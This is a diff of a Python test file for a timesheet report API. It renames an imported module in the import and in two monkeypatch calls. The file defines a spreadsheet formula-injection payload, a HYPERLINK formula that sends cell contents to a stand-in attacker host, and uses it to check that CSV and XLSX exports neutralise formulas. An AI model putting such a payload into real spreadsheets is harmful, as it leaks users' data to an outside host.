@@ -15,7 +15,7 @@ from fastapi.testclient import TestClient
 
 import bootstrap
 from api.routers import reports
-from projections import timesheets
+from projections import timesheet_query
 from tests.factories import user_token
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -231,7 +231,7 @@ def spread_out(desk: Desk) -> None:
 def test_the_csv_export_streams_every_group_and_neutralises_formulas(
     desk: Desk, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(timesheets, "CHUNK", 2)  # seven groups: four chunks
+    monkeypatch.setattr(timesheet_query, "CHUNK", 2)  # seven groups: four chunks
     spread_out(desk)
     response = desk.get(
         "/api/v1/reports/timesheets", group_by="item,week", format="csv", **{"from": "2026-05-01"}
@@ -252,7 +252,7 @@ def test_the_csv_export_streams_every_group_and_neutralises_formulas(
 def test_the_xlsx_export_is_a_workbook_with_formulas_written_as_text(
     desk: Desk, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(timesheets, "CHUNK", 2)
+    monkeypatch.setattr(timesheet_query, "CHUNK", 2)
     monkeypatch.setattr(reports, "SHEET_ROWS", 5)  # a header and 4 rows a sheet
     spread_out(desk)
     response = desk.get("/api/v1/reports/timesheets", group_by="item,week", format="xlsx")
